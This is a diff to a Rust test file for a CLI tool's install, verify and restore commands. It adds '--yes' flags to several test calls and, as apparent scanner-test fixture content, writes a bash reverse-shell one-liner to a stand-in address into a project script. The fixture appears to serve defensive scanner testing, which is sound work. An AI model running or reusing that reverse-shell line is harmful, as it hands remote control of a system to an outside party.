@@ -166,12 +166,12 @@ fn the_advice_of_errors_names_flags_that_the_command_has() {
         &["install", "--yes"],
         &["install", "--locked", "--yes"],
         &["verify"],
-        &["restore", "csv"],
+        &["restore", "csv", "--yes"],
     ] {
         check(args);
     }
-    assert_eq!(run(&home, &["restore", "csv", "--force"]).code, 0);
-    assert_eq!(run(&home, &["restore", "csv", "--force"]).code, 0);
+    assert_eq!(run(&home, &["restore", "csv", "--yes", "--force"]).code, 0);
+    assert_eq!(run(&home, &["restore", "csv", "--yes", "--force"]).code, 0);
     fs::remove_file(home.project().join(".agent/skills/csv/more.txt")).expect("removes");
     // What a scan finds.
     home.write("project/src/csv/run.sh", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n");
